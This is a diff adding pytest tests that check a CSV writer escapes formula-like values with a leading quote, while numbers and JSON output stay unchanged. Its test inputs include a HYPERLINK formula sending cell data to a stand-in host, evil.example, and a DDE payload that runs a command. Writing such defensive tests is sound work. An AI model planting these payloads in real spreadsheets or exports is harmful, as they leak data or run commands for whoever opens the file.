@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import json
 
 import pytest
 
@@ -20,3 +22,37 @@ def test_csv_always_has_its_header_row_even_with_no_rows() -> None:
     out = io.StringIO()
     emit_rows([], ["address", "reason"], "csv", out=out)
     assert out.getvalue() == "address,reason\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"help")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+    ],
+)
+def test_a_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(text: str) -> None:
+    out = io.StringIO()
+    emit_rows([{"text": text}], ["text"], "csv", out=out)
+    [_, row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert row == ["'" + text]
+
+
+def test_csv_numbers_and_ordinary_texts_are_written_as_they_are() -> None:
+    out = io.StringIO()
+    emit_rows(
+        [{"n": -3, "rate": -0.5, "text": "550 5.1.1 no=such user"}],
+        ["n", "rate", "text"],
+        "csv",
+        out=out,
+    )
+    assert out.getvalue().splitlines()[1] == "-3,-0.5,550 5.1.1 no=such user"
+
+
+def test_json_keeps_a_formula_like_text_exactly() -> None:
+    out = io.StringIO()
+    emit_rows([{"text": "=1+1"}], ["text"], "json", out=out)
+    assert json.loads(out.getvalue()) == [{"text": "=1+1"}]
